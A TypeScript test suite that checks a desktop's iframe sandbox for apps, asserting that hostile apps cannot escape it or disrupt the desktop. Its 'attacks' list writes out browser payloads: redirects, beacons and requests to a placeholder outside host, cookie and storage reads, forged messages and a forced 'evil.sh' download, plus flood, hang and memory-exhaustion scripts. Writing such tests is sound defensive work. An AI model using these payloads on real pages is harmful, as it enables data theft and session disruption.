// Apps of the data folder in their wrapper: what a good one can do, and what a hostile one cannot.

import type { Browser } from 'playwright-core';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server as Listener } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';

import { openDesktop, startBrowser, violations, windowOf, type Watched } from './browser';
import { Server, type Agent, type Answer } from './server';

let server: Server;
let browser: Browser;
let agent: Agent;
let seen: Watched;
/** A listener on the network, and everything that reached it. */
let outside: Listener;
const reached: string[] = [];
let there = '';

beforeAll(async () => {
  outside = createServer((request, answer) => {
    reached.push(`${request.method} ${request.url}`);
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('<title>outside</title>outside');
  });
  outside.on('upgrade', (request) => reached.push(`upgrade ${request.url}`));
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  there = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  // An app that uses all memory must not exhaust this machine's, so this browser has a lower limit.
  [server, browser] = await Promise.all([Server.start(), startBrowser('--js-flags=--max-old-space-size=256')]);
  agent = await server.agent('maker');
  seen = await openDesktop(browser, server.link);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
  outside?.close();
});
/** Next to the apps. */
const beside = { bounds: { x: 700, y: 60, w: 400, h: 260 } };

/** Puts an app into the data folder. */
async function make(id: string, files: Record<string, string>, where = server): Promise<void> {
  const folder = path.join(where.folder, 'apps', id);
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, 'app.json'), JSON.stringify({ name: id, agent: 'maker' }));
  for (const [name, text] of Object.entries(files)) await writeFile(path.join(folder, name), text);
}

const head = '<!doctype html><html lang="en"><meta charset="utf-8"><title>x</title>';
const page = (script: string, more = '') => ({
  'index.html': `${head}${more}<p id="out">ready</p><script src="fingertip.js"></script><script>${script}</script></html>`,
});

/** Opens an app with this script in a window, and waits for the result. */
async function open(id: string, script: string): Promise<Answer['body']> {
  await make(id, page(script));
  return show(id, { requestId: `load-${id}` });
}

function show(id: string, more: Record<string, unknown> = {}, who = agent): Promise<Answer['body']> {
  return who.open(id, {
    bounds: { x: 40, y: 40, w: 500, h: 400 },
    content: { renderer: 'iframe', data: { url: `/apps/${id}/index.html` } },
    ...more,
  });
}

async function close(...ids: string[]): Promise<void> {
  await Promise.all(ids.map((windowId) => agent.act({ type: 'window.close', windowId })));
}

const inside = (id: string) => windowOf(seen.page, id).frameLocator('iframe').frameLocator('iframe');
/** Returns what the app shows; `gone` if its document is. */
const said = (id: string) =>
  inside(id)
    .locator('#out')
    .textContent({ timeout: 1_000 })
    .catch(() => 'gone');

it('an app runs in a wrapper, in the desktop’s colours', async () => {
  await open('good', `fingertip.onTheme((theme) => { out.textContent = theme.scheme + ' ' + theme.colours.ink; });`);
  await expect.poll(() => said('good')).toMatch(/^light rgb\(/);
  await seen.page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(() => said('good')).toMatch(/^dark rgb\(/);
  const frame = windowOf(seen.page, 'good').locator('iframe');
  expect(await frame.getAttribute('sandbox')).toBe('allow-forms allow-scripts');
  expect(seen.trouble).toStrictEqual([]);
  await seen.page.emulateMedia({ colorScheme: 'light' });
  await close('good');
});

it('an app reports its errors, and the page says so and offers to reload', async () => {
  await open('faulty', `setTimeout(() => { throw new Error('out of ' + 'paper'); });`);
  const window = windowOf(seen.page, 'faulty');
  await window.getByText('The app reported an error: Uncaught Error: out of paper').waitFor();
  expect(await violations(seen.page)).toStrictEqual([]);
  await window.getByRole('button', { name: 'Reload' }).click();
  await expect.poll(() => said('faulty')).toBe('ready');
  await close('faulty');
});

it('an app that is not there says so, to the person and to the agent', async () => {
  const answer = await show('nowhere', { requestId: 'load-nowhere' });
  const feedback = { ok: false, error: expect.stringContaining('404') };
  expect(answer.results?.[0]).toMatchObject({ ok: false, feedback });
  const window = windowOf(seen.page, 'nowhere');
  await window.getByRole('button', { name: 'Reload the app' }).waitFor();
  await make('nowhere', { 'index.html': `${head}<p id="out">here now</p></html>` });
  await window.getByRole('button', { name: 'Reload the app' }).click();
  await expect.poll(() => said('nowhere')).toBe('here now');
  await close('nowhere');
});

it('an app draws itself when an agent wants a picture', async () => {
  await open(
    'drawn',
    `fingertip.onCapture(({ width, height }) => {
       const canvas = document.createElement('canvas');
       Object.assign(canvas, { width, height });
       return canvas;
     });`,
  );
  const answer = await agent.act({ type: 'window.capture', windowId: 'drawn', requestId: 'c1' });
  expect(answer.results?.[0]?.feedback).toMatchObject({ ok: true });
  expect(answer.results?.[0]?.feedback?.partial).not.toBe(true);
  await close('drawn');
});

// The attacks of a hostile app, with what it can still show, or what the page shows instead.
const attacks: { name: string; script: string; more?: string; says?: RegExp; notice?: RegExp }[] = [
  { name: 'top navigation', script: `try { top.location = 'THERE/top' } catch { } try { parent.location = 'THERE/parent' } catch { }` },
  { name: 'leaving', script: `location = 'THERE/self?secret'`, notice: /tried to open another page/ },
  { name: 'leaving by a link', script: `const a = document.createElement('a'); a.href = 'THERE/link'; document.body.append(a); a.click();`, notice: /tried to open another page/ },
  { name: 'leaving to data', script: `location = 'data:text/html,<script>top.location="THERE/data"</' + 'script>'`, notice: /tried to open another page/ },
  { name: 'leaving by refresh', script: '', more: `<meta http-equiv="refresh" content="0;url=THERE/refresh">`, notice: /tried to open another page/ },
  { name: 'framing', script: `for (const url of ['THERE/frame', 'data:text/html,<iframe src="THERE/deep"></iframe>']) { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }` },
  { name: 'fetch', script: `fetch('THERE/fetch', { mode: 'no-cors' }).catch(() => {}); const x = new XMLHttpRequest(); x.open('GET', 'THERE/xhr'); try { x.send() } catch { } navigator.sendBeacon('THERE/beacon', 'x');` },
  { name: 'pictures and styles', script: `new Image().src = 'THERE/img'; const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'THERE/css'; document.head.append(l); const s = document.createElement('script'); s.src = 'THERE/js'; document.head.append(s); const p = document.createElement('link'); p.rel = 'prefetch'; p.href = 'THERE/prefetch'; document.head.append(p);` },
  { name: 'workers', script: `new Worker(URL.createObjectURL(new Blob(['fetch("THERE/worker",{mode:"no-cors"}); importScripts("THERE/import")'])));` },
  { name: 'popup', script: `out.textContent = String(window.open('THERE/popup'));`, says: /^null$/ },
  { name: 'form', script: `const f = document.createElement('form'); f.action = 'THERE/form'; f.method = 'post'; document.body.append(f); f.submit(); const g = document.createElement('form'); g.action = 'THERE/form2'; g.target = '_top'; document.body.append(g); g.submit();`, notice: /tried to open another page/ },
  { name: 'websocket', script: `try { new WebSocket('THERE'.replace('http', 'ws')) } catch { }` },
  { name: 'event source', script: `try { new EventSource('THERE/events') } catch { }` },
  { name: 'download', script: `const a = document.createElement('a'); a.href = 'data:text/plain,hello'; a.download = 'evil.sh'; document.body.append(a); a.click();` },
  { name: 'the page', script: `let got = 'nothing'; for (const w of [parent, top]) { try { got = w.document.cookie } catch { } try { got = w.localStorage } catch { } } try { got = document.cookie } catch { } out.textContent = String(got);`, says: /^nothing$/ },
  { name: 'titles and dialogs', script: `document.title = 'Signed out'; alert('x'); print(); try { top.document.title = 'evil' } catch { }` },
  { name: 'the server', script: `Promise.all(['/api/desktop', '/api/settings', '/api/session'].map((u) => fetch(u).then((r) => r.status, () => 'no'))).then((all) => { out.textContent = all.join() });`, says: /^(401|403|no),(401|403|no),(401|403|405|no)$/ },
  { name: 'false mail', script: `for (const type of ['fingertip.wrapper', 'fingertip.capture', 'fingertip.port']) for (const w of [parent, top]) w.postMessage({ type }, '*', [new MessageChannel().port1]);` },
];

it('a hostile app gets nowhere', async () => {
  const downloads: string[] = [];
  seen.page.on('download', (download) => downloads.push(download.url()));
  const id = (name: string) => name.replaceAll(' ', '-');
  // Set whatever the attack does to its script, and late enough that its messages are under way.
  const mark = `setTimeout(() => { if (out.textContent === 'ready') out.textContent = 'done' }, 600);`;
  for (const { name, script, more = '' } of attacks) {
    await make(id(name), page((mark + script).replaceAll('THERE', there), more.replaceAll('THERE', there)));
    await show(id(name));
  }
  for (const { name, says = /^done$/, notice } of attacks) {
    if (notice) await windowOf(seen.page, id(name)).getByText(notice).waitFor();
    else await expect.poll(() => said(id(name)), { message: name }).toMatch(says);
  }
  expect(seen.page.url()).toBe(`${server.origin}/`);
  expect(await seen.page.title()).not.toMatch(/evil|Signed out/);
  expect(seen.context.pages().length).toBe(1);
  expect(downloads).toStrictEqual([]);
  expect(seen.foreign).toStrictEqual([]);
  expect(reached).toStrictEqual([]);
  // Errors inside the app are the app's own business.
  expect(seen.trouble.filter((line) => line.startsWith('dialog: '))).toStrictEqual([]);
  await close(...attacks.map(({ name }) => id(name)));
});

it('an app that floods is stopped, whomever it writes to', async () => {
  const floods = {
    agent: `for (let i = 0; i < 5000; i += 1) fingertip.send(i).catch(() => {});`,
    wrapper: `for (let i = 0; i < 5000; i += 1) parent.postMessage({ type: 'fingertip.hello' }, '*');`,
    page: `setInterval(() => { for (let i = 0; i < 200; i += 1) top.postMessage('x'.repeat(1000), '*') }, 10);`,
  };
  for (const [whom, script] of Object.entries(floods)) {
    await make(`flood-${whom}`, page(script));
    await show(`flood-${whom}`);
    const window = windowOf(seen.page, `flood-${whom}`);
    await window.getByText('it sent too many messages').waitFor();
    expect(await window.locator('iframe').count()).toBe(0);
  }
  // Everything else continues.
  await agent.open('calm', beside);
  await windowOf(seen.page, 'calm').getByText('Window calm').waitFor();
  await close('calm', ...Object.keys(floods).map((whom) => `flood-${whom}`));
});

it('an app that is stopped while it loads is no app that has loaded', async () => {
  const answer = await open('early', `location = '${there}/early'`);
  expect(answer.results?.[0]?.feedback).toMatchObject({ ok: false, error: expect.stringContaining('it was stopped') });
  await close('early');
});

// Both are detected by their silence, which takes time, so they run at once, each with its own server. Each also has
// its own `expect`: the shared one belongs to no test any more when the first of the two has ended.
it.concurrent('an app that hangs leaves the desktop alone, says so, and can be loaded again', async ({ expect }) => {
  await open('hang', `setTimeout(() => { for (;;); }, 300);`);
  const window = windowOf(seen.page, 'hang');
  await window.getByText('This app is not responding').waitFor();
  await agent.open('alive', beside);
  await windowOf(seen.page, 'alive').getByText('Window alive').waitFor({ timeout: 5_000 });
  await make('hang', { 'index.html': `${head}<p id="out">mended</p></html>` });
  await window.getByRole('button', { name: 'Reload the app' }).click();
  await expect.poll(() => said('hang')).toBe('mended');
});

it.concurrent('an app that takes all memory takes only itself', async ({ expect }) => {
  const other = await Server.start();
  try {
    const desktop = await openDesktop(browser, other.link);
    // Playwright gives up a page when one of its frames crashes, which the page itself survives, so it is asked
    // directly.
    const asked = await desktop.context.newCDPSession(desktop.page);
    const shown = async (id: string) => {
      const expression = `document.querySelector('[data-window="monitor-0/${id}"]')?.innerText`;
      return String((await asked.send('Runtime.evaluate', { expression })).result.value);
    };
    const crash = new Promise((resolve) => desktop.page.once('crash', resolve));
    const maker = await other.agent('maker');
    const greed = `setTimeout(() => { const all = []; for (;;) all.push(new Array(100_000).fill(all.length)); }, 300);`;
    await make('greedy', page(greed), other);
    const answer = await show('greedy', { requestId: 'load-greedy' }, maker);
    expect(answer.results?.[0]?.feedback).toMatchObject({ ok: true });
    await crash;
    await maker.open('spared', beside);
    await expect.poll(() => shown('spared')).toContain('Window spared');
    await expect.poll(() => shown('greedy')).toContain('This app is not responding');
  } finally {
    await other.stop();
  }
});
